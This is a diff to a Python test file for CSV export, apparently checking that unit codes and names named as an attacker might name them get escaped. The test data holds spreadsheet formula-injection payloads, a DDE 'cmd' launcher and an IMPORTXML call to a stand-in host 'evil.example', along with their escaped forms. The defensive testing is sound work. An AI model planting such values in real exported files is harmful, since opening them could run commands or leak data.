@@ -172,7 +172,8 @@ def test_csv_has_a_bom_and_round_trips_chinese():
 
 # Units as an attacker might name them; the template lists every unit's code and name.
 HOSTILE_UNITS = [("F1", "=cmd|'/c calc'!A1", "Formula", "coal"), ("F2", "+1+1", "Plus", "chemical"),
-                 ("F3", '@IMPORTXML("http://evil.example","//a")', "At", "logistics"), ("-F4", "负号煤矿", "Minus", "coal")]
+                 ("F3", '@IMPORTXML("http://evil.example","//a")', "At", "logistics"),
+                 ("-F4", "负号煤矿", "Minus", "coal")]
 HOSTILE_CELLS = [["F1", "'=cmd|'/c calc'!A1"], ["F2", "'+1+1"], ["F3", '\'@IMPORTXML("http://evil.example","//a")'],
                  ["'-F4", "负号煤矿"]]
 FORMULA_STARTS = tuple("=+-@\t\r")
